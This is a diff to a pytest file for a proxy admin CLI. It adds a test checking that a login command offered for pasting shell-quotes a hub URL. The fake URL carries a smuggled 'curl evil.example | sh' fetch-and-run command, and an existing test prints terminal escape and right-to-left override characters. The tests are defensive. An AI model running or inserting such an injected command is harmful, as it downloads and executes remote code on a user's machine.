@@ -1,11 +1,14 @@
 from __future__ import annotations
 
 import io
+import ssl
 import sys
 
 import click
 import pytest
 
+from proxy.cli.admin.agent import _say_login
+from proxy.cli.admin.client import AdminClient, Object
 from proxy.cli.admin.output import confirm, say, say_apply_rbac
 from proxy.cli.errors import CommandError
 
@@ -42,6 +45,17 @@ def test_what_is_said_is_made_safe_line_by_line(capsys: pytest.CaptureFixture[st
     # The name of a pod, as `session kill` tells it.
     say("killed get pods/log work/\u202egnp.exe\x1b[2J\n  next")
     assert capsys.readouterr().err == "killed get pods/log work/\\u202egnp.exe\\x1b[2J\n  next\n"
+
+
+def test_a_login_to_be_pasted_is_one_word_of_the_hubs(capsys: pytest.CaptureFixture[str]) -> None:
+    class Taken(AdminClient):
+        def get(self, *path: str, **query: str) -> Object:
+            return {"public_url": "https://hub.example; curl evil.example | sh"}
+
+    _say_login(Taken("", "", ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)), " --code")
+    assert (
+        "hawse login --hub 'https://hub.example; curl evil.example | sh' --code\n" in capsys.readouterr().err
+    )
 
 
 def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
